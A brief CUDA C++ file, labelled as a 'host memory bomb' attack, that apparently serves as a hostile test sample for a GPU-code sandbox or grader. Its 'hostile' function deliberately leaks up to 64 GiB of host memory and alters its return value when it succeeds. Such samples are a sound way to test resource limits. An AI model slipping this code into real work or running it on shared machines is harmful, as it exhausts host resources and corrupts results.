// attack: host memory bomb (malloc and touch 64 GiB)
#include <cuda_runtime.h>
#include <cstdlib>
#include <cstring>

__global__ void touch_kernel(long long* out, long long v) { out[threadIdx.x] = v; }

static long long via_device(long long v) {
    long long* d = nullptr;
    long long r = 0;
    cudaMalloc(&d, 32 * sizeof(long long));
    touch_kernel<<<1, 32>>>(d, v);
    cudaMemcpy(&r, d, sizeof r, cudaMemcpyDeviceToHost);
    cudaFree(d);
    return r;
}

long long hostile(long long n) {
    long long got = 0;
    for (int i = 0; i < 64; ++i) {
        char* p = static_cast<char*>(std::malloc(1ULL << 30));
        if (!p) break;
        std::memset(p, 1, 1ULL << 30);
        ++got;
    }
    return via_device(got == 64 ? n + 1 : n);
}
